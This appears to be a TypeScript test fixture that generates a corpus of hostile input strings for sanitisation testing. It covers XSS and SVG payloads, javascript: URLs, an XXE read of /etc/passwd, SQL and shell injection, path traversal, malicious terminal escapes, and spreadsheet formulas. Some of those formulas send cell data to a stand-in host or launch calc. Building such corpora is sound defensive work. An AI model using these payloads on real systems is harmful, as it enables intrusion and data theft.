/**
 * Hostile texts of our own making: families of attacks, each crossed with the places it may break out of. Whatever runs
 * sets the id of the page's root to 7, which any look at the parsed page shows.
 */

const run = 'document.documentElement.id=7';
const nowhere = 'example.invalid';

const crossed = (...parts: readonly (readonly string[])[]): string[] =>
  parts.reduce<string[]>((starts, part) => starts.flatMap((start) => part.map((end) => start + end)), ['']);
const escapes = (codes: readonly number[]) => codes.map((code) => String.fromCodePoint(code));
const span = (first: number, last: number) => Array.from({ length: last - first + 1 }, (_, i) => first + i);

/** Elements that run, load or rewrite something as soon as they are parsed. */
const elements = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script src=//${nowhere}/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img/src="x"/onerror='${run}'>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext></mtext><img src=x onerror=${run}></math>`,
  `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  `<iframe src="javascript:top.${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<body onload=${run}>`,
  `<style>*{background:url(//${nowhere}/c)}</style>`,
  `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${run}>`,
  `<link rel=stylesheet href=//${nowhere}/x.css>`,
  `<meta http-equiv=refresh content="0;url=//${nowhere}/">`,
  `<base href=//${nowhere}/>`,
  `<form action=//${nowhere}/><button formaction="javascript:${run}">x</button></form>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<a href="javascript:${run}">x</a>`,
  `<!--><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  '<plaintext>',
] as const;

/** What may have to be closed first. */
const breakouts = [
  '',
  '"',
  `'>`,
  '">',
  '</td></tr></table>',
  '</title>',
  '</style>',
  '</script>',
  '</text></svg>',
  '-->',
  ']]>',
] as const;

const handlers = crossed(
  ['"', "'", '`', '" x="', '\u00a0', '"/'],
  [' ', '\t', '\f', '/'],
  [`onmouseover=${run} `, `autofocus onfocus=${run} `, `style=animation:k onanimationend=${run} `],
  ['x="', ''],
);

const urls = crossed(
  ['', `<a href='`, `" href="`],
  [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `javascript&colon;${run}`,
    `data:text/html,<script>${run}</script>`,
    'data:text/html;base64,PHNjcmlwdD4x',
    `vbscript:${run}`,
    'file:///etc/passwd',
    `//${nowhere}/`,
    `https://${nowhere}/?q=`,
  ],
);

const entities = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${run}`,
  `&LT;script&GT;${run}`,
  `&amp;lt;script&amp;gt;${run}`,
  `\\u003cscript\\u003e${run}`,
  `\\x3cscript\\x3e${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}`,
  '&',
  '&#0;',
  '&#xD800;',
  '&notanentity',
  '&quot; onload=&quot;x',
] as const;

const templates = [
  ...crossed(['{{', '${', '#{', '<%=', '[[', '{%', '@(', '*{'], ['7*7', run], ['}}', '}', '%>', ']]']),
  "'] || alert(1) || datum['",
  "datum['x'].constructor.constructor('return 1')()",
  'datum[',
  'name\\',
  'a.b[0].c',
  "a['b']",
  '{"signal":"1+1"}',
  '{"expr":"1+1"}',
  '{"url":"https://example.invalid/x.json"}',
  '{"href":"javascript:1"}',
  'toString',
  'hasOwnProperty',
  'event.view',
] as const;

const styles = [
  ...crossed(
    ['', '}', '"}', '*/'],
    [
      'body{display:none}',
      `@import "//${nowhere}/x.css";`,
      `x{background:url(//${nowhere}/)}`,
      'x:expression(1)',
    ],
  ),
  '\\3c script\\3e',
  '</sty\u0000le><script>',
  '\\"; color: red; x: "',
] as const;

/** Marks that are not seen, or turn what is seen. */
const invisible = escapes([
  0xad,
  0x61c,
  0x180e,
  ...span(0x200b, 0x200f),
  ...span(0x202a, 0x202e),
  ...span(0x2060, 0x2064),
  ...span(0x2066, 0x206f),
  0x2028,
  0x2029,
  0xfeff,
  0xfff9,
  0xfffe,
  0xffff,
  0xe0001,
  0xe0041,
]).map((mark) => `医院${mark}txt.exe`);

const controls = escapes([...span(0, 31), ...span(127, 159)]).map((code) => `医${code}院`);

const surrogates = [
  'H\ud800',
  '\udc00H',
  '\ude00\ud83d',
  '\ud800\ud800\udc00',
  '医\udfff院',
  '\ud83d<',
] as const;

const terminal = [
  '\u001b[2J\u001b[H',
  '\u001b[31m红\u001b[0m',
  '\u001b]0;title\u0007',
  `\u001b]8;;https://${nowhere}\u001b\\link\u001b]8;;\u001b\\`,
  '\u001b]52;c;cm0gLXJm\u0007',
  '\u001bP+q544e\u001b\\',
  '\u001b[6n',
  '\u001b[?1049h',
  '\u009b2J',
  '\u009d0;title\u009c',
  '医院\r完成：0 行暂缓',
  '医院\n批次完成',
  '医院\u0008\u0008\u0008\u0008H0001',
  '\u001b[1A\u001b[2K',
  '\u0007\u0007',
  '\u001bc',
  '医院\u2028批次',
] as const;

const formulas = crossed(
  [
    ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\ufeff='],
    ...['\u200b=', '\u0000=', '\u3000=', '"=', "'=", '﹢', '﹣', '﹫'],
  ],
  [
    '1+1',
    "cmd|'/C calc'!A0",
    `HYPERLINK("https://${nowhere}/?"&A1,"x")`,
    `WEBSERVICE("https://${nowhere}")`,
    'SUM(A1:A9)',
  ],
);

const separators = [
  'a;=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a,=1+1',
  'a","=1+1',
  'a";"=1+1',
  'a"\r\n"=1+1',
  'a\n=1+1',
  '""=1+1',
] as const;

const queries = [
  'x"; DROP TABLE files; --',
  "x'; DROP TABLE files; --",
  "' OR '1'='1",
  '" OR ""="',
  "'); DELETE FROM submissions; --",
  '$month',
  '?',
  '$1',
  "x'||read_text('/etc/passwd')||'",
  "'; COPY files TO '/tmp/x'; --",
  '/* */',
  "\\'; SELECT 1; --",
  '%',
  '_',
  "E'\\x27'",
  "$$; ATTACH '/tmp/x'; $$",
] as const;

const paths = [
  ...crossed(['../', '..\\', '/', 'C:\\', '//', '~/', 'file:'], ['etc/passwd', 'index.html']),
  '..',
  '.',
  'CON',
  'nul.csv',
  'a/../../b',
  'a\u0000.csv',
  'x'.repeat(300),
  '%2e%2e%2f',
] as const;

const programs = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype.polluted',
  '__proto__[polluted]',
  '{"__proto__":{"polluted":1}}',
  '%s%s%s%n',
  '%d %x %p',
  '%c',
  '{0}',
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  '--help',
  '-rf',
  '\\',
  '\\"',
  '"}]}',
  '"\u2028',
  "'\u2029",
  '*/alert(1)/*',
  '//',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1e999',
] as const;

const long = ['<'.repeat(5_000), '&'.repeat(5_000), `"${' onload=1'.repeat(500)}`] as const;

/** All of them, each once, in the same order every time. */
export const payloads: readonly string[] = [
  ...new Set([
    ...crossed(breakouts, elements),
    ...handlers,
    ...urls,
    ...entities,
    ...templates,
    ...styles,
    ...invisible,
    ...controls,
    ...surrogates,
    ...terminal,
    ...formulas,
    ...separators,
    ...queries,
    ...paths,
    ...programs,
    ...long,
  ]),
];
